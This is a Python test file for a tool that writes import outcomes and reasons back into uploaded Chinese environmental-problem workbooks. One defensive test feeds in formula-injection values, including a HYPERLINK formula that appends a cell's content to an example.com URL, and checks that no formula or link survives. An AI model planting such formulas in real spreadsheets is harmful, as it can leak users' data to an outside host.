"""The list sent back: outcomes beside the rows, values where they were, no formula anywhere."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from gateways.problem_list.annotate import RowOutcome, annotated_workbook, sheet_name
from gateways.problem_list.reading import read_list
from tests.gateways.problem_list.books import GOOD, HEADINGS, TODAY, Value, book, saved, with_part


def cells(content: bytes, sheet: int = 0) -> list[list[object]]:
    loaded = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in loaded.worksheets[sheet].iter_rows(values_only=True)]


def test_outcomes_stand_beside_their_rows() -> None:
    original = book([("标题",), HEADINGS, GOOD, ("某区", "甲示例公司", "问题。")])
    report = [
        RowOutcome("Sheet", 3, "已导入"),
        RowOutcome(
            "Sheet", 4, "未导入", ("区县：没有名为“某区”的区县", "地址：过长"), refused=True
        ),
    ]
    assert cells(annotated_workbook(original, report)) == [
        ["标题", None, None, None, None],
        [*HEADINGS, "处理结果", "原因"],
        [*GOOD, "已导入", None],
        ["某区", "甲示例公司", "问题。", "未导入", "区县：没有名为“某区”的区县\n地址：过长"],
    ]


def test_the_list_sent_back_can_be_mended_and_sent_again() -> None:
    def merge(sheet: Worksheet) -> None:
        sheet.merge_cells("A2:A3")
        sheet.merge_cells("B2:B3")

    rows: list[tuple[Value, ...]] = [
        (*HEADINGS, "移交日期"),
        (*GOOD, date(2024, 7, 1)),
        (None, None, "别的问题。", 45475),
    ]
    original = book(rows, merge)
    once = annotated_workbook(original, [RowOutcome("Sheet", 2, "已导入")])
    twice = annotated_workbook(
        once, [RowOutcome("Sheet", 2, "已存在"), RowOutcome("Sheet", 3, "已导入")]
    )
    assert read_list(twice, today=TODAY).rows == read_list(original, today=TODAY).rows
    assert cells(twice)[0].count("处理结果") == 1
    assert [row[4] for row in cells(twice)[1:]] == ["已存在", "已导入"]


def test_a_lying_list_gets_two_rows() -> None:
    original = book(
        [
            ("渝北区 区（县） 填报人：",),
            ("企业名称", "甲示例公司", "乙示例公司"),
            ("存在的环境问题", "未开启喷淋。", "堆场未覆盖。"),
        ]
    )
    report = [RowOutcome("Sheet", 2, "已导入"), RowOutcome("Sheet", 3, "未导入", ("原因",), True)]
    sent_back = annotated_workbook(original, report)
    assert cells(sent_back)[3:] == [["处理结果", "已导入", "未导入"], ["原因", None, "原因"]]
    assert len(read_list(sent_back, today=TODAY).rows) == 2


def test_nothing_in_the_list_sent_back_is_a_formula_or_a_link() -> None:
    dangerous = ("渝中区", '=HYPERLINK("http://example.com?"&A1)', "=1+1")
    original = book([(*HEADINGS, "网址"), (*dangerous, "http://example.com")])
    report = [RowOutcome("Sheet", 2, "=2+2", ("=3+3", "@SUM(1)"))]
    sent_back = annotated_workbook(original, report)
    assert cells(sent_back)[1] == [*dangerous, "http://example.com", "=2+2", "=3+3\n@SUM(1)"]
    with zipfile.ZipFile(io.BytesIO(sent_back)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet


def test_values_keep_their_kinds() -> None:
    original = book([(*HEADINGS, "甲", "乙", "丙"), (*GOOD, date(2024, 7, 1), -2.5, True)])
    row = cells(annotated_workbook(original, []))[1]
    assert str(row[3]) == "2024-07-01 00:00:00"
    assert row[4:6] == [-2.5, True]


def test_a_sheet_name_that_excel_forbids_gives_way_to_a_number() -> None:
    original = with_part(
        book([HEADINGS, GOOD]),
        "xl/workbook.xml",
        lambda part: part.replace(b'name="Sheet"', 'name="工作表1[a/b]"'.encode()),
    )
    (row,) = read_list(original, today=TODAY).rows
    sent_back = annotated_workbook(original, [RowOutcome(row.sheet, row.row, "已导入")])
    assert openpyxl.load_workbook(io.BytesIO(sent_back)).sheetnames == ["工作表1"]
    assert cells(sent_back)[1] == [*GOOD, "已导入", None]


@pytest.mark.parametrize("name", ["", "'甲", "长" * 32, "a:b"])
def test_a_fresh_sheet_name_is_not_one_of_the_others(name: str) -> None:
    assert sheet_name(name, 2, {"工作表2", "工作表2_"}) == "工作表2__"


def test_sheets_without_a_list_come_back_too() -> None:
    workbook = openpyxl.Workbook()
    workbook.worksheets[0].append(("说明",))
    listed = workbook.create_sheet("清单")
    listed.append(HEADINGS)
    listed.append(GOOD)
    content = saved(workbook)
    sent_back = annotated_workbook(content, [RowOutcome("清单", 2, "已导入")])
    assert cells(sent_back, 0) == [["说明"]]
    assert cells(sent_back, 1)[1] == [*GOOD, "已导入", None]
